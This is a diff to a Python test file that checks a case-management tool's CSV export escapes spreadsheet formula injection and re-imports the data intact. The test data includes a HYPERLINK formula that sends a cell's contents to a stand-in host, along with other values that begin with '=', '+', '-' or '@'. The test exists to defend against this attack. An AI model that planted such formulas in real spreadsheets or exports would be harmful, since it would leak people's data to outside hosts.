@@ -20,6 +20,7 @@ from tests.conftest import dump
 
 AS_OF = "2025-06-30"
 TEAMS = load(str(DEFAULT_CONFIG)).teams
+FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
 
 
 def rows(path, sql: str) -> list[tuple]:
@@ -115,12 +116,27 @@ def test_sample_spreads_cases_over_the_six_teams(cli, private_db):
 def test_export_then_import_into_an_empty_database_reproduces_everything(hand_made, private_db, tmp_path,
                                                                          fmt):
     hand_made.ok(["sample", "--cases", "200", "--seed", "2", "--as-of", AS_OF])
+    # text a spreadsheet would run: the CSV carries it with a leading ', and import takes it off again
+    hand_made.ok(["add-request", "--ref", "F1", "--name", FORMULA, "--dob", "2016-04-04", "--received",
+                  "2025-03-03", "--coordinator", "-Smith", "--setting", "@x", "--by", "+44 20 7946 0000"])
+    hand_made.ok(["record", "contact", "F1", "--date", "2025-03-04", "--with", "parent", "--note", "=1+1",
+                  "--by", "'=quoted already"])
+    hand_made.ok(["add-request", "--ref", "F2", "--name", "'Plain quote", "--dob", "2016-04-04",
+                  "--received", "2025-03-03", "--coordinator", "''-two quotes", "--setting", "-"])
     exported = tmp_path / f"all.{fmt}"
     hand_made.ok(["export", "--format", fmt, "--out", str(exported)])
+    if fmt == "csv":
+        table = list(csv.DictReader(io.StringIO(exported.read_text())))
+        f1, contact, f2 = (r for r in table if r["ref"] in ("F1", "F2"))
+        assert (f1["name"], f1["coordinator"], f1["setting"], f1["recorded_by"]) == \
+            ("'" + FORMULA, "'-Smith", "'@x", "'+44 20 7946 0000")
+        assert contact["recorded_by"] == "''=quoted already"
+        assert (f2["name"], f2["coordinator"], f2["setting"]) == ("'Plain quote", "'''-two quotes", "'-")
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in table for cell in row.values())
     copy = tmp_path / "copy.db"
     hand_made.ok(["--db", str(copy), "init"])
     out = hand_made.ok(["--db", str(copy), "import", str(exported)])
-    assert out.startswith("imported 203 cases")
+    assert out.startswith("imported 205 cases")
     before, after = snapshot(private_db), snapshot(copy)
     assert after[0] == before[0]  # cases, every column
     assert after[1] == before[1]  # events: ids, voids, who and when recorded
